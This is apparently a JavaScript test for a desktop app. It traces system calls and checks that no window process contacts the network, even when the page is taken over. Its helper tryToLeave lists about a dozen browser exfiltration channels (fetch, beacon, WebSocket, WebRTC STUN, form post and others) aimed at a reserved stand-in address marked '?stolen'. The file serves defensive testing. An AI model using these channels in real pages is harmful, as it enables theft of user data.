// No request leaves the window: neither by itself nor when a page, taken over, tries.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { setTimeout as sleep } from "node:timers/promises";
import { makeDemoVault } from "./fixtures.mjs";
import { test } from "./harness.mjs";
import { goTo, quiet, unlock } from "./steps.mjs";

/** Reserved for documentation (RFC 5737): nobody answers there, but a try is seen. */
const ELSEWHERE = "192.0.2.7";

/** Every internet address that a traced process connected or sent to. */
async function addressesIn(trace) {
  const text = await readFile(trace, "utf8");
  return [...text.matchAll(/inet_addr\("([^"]+)"\)|inet_pton\(AF_INET6, "([^"]+)"/g)].map(
    ([, four, six]) => four ?? six,
  );
}

const isLocal = (address) => address.startsWith("127.") || address === "::1";

test("no process of the window speaks to the network", async (desk) => {
  const trace = desk.path("trace");
  const calls = "trace=connect,sendto,sendmsg,sendmmsg";
  const screen = await desk.open({ under: ["strace", "-f", "-qq", "-e", calls, "-o", trace] });
  await unlock(screen, makeDemoVault(desk.folder));
  for (const address of ["/today", "/clients", "/import", "/documents", "/settings"]) {
    await goTo(screen, address);
  }
  await goTo(screen, "/clients");
  await screen.press("/");
  await screen.type("示例精工");
  await screen.find("row", "示例精工");
  await screen.press("Enter");
  await screen.click("button", "拜访资料包");
  await screen.find("region", "第 1 页");
  await screen.browser.execute(tryToLeave, ELSEWHERE);
  await sleep(2_000);
  assert.match(await screen.browser.getUrl(), /^tauri:\/\/localhost\//);
  await quiet(screen);
  await screen.window.close();

  const addresses = await addressesIn(trace);
  // The driver reaches the window this way: the trace sees what it is to see.
  assert.ok(addresses.some(isLocal), "the trace is empty");
  assert.deepEqual([...new Set(addresses.filter((address) => !isLocal(address)))], []);
});

/** Runs in the page: every way out that a script knows. */
function tryToLeave(host) {
  const url = `http://${host}/?stolen`;
  const tries = [
    () => fetch(url, { mode: "no-cors" }).catch(() => {}),
    () => navigator.sendBeacon(url, "x"),
    () => new WebSocket(`ws://${host}/`),
    () => new EventSource(url),
    () => {
      new Image().src = url;
    },
    () => document.head.append(Object.assign(document.createElement("script"), { src: url })),
    () =>
      document.head.append(
        Object.assign(document.createElement("link"), { rel: "stylesheet", href: url }),
      ),
    () =>
      document.head.append(
        Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: url }),
      ),
    () => document.body.append(Object.assign(document.createElement("iframe"), { src: url })),
    () => window.open(url),
    () => new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:3478` }] }).createOffer(),
    () => {
      const form = Object.assign(document.createElement("form"), { action: url, method: "post" });
      document.body.append(form);
      form.submit();
    },
    () => {
      location.href = url;
    },
  ];
  for (const attempt of tries) {
    try {
      attempt();
    } catch {
      // Refused at once is as good.
    }
  }
}
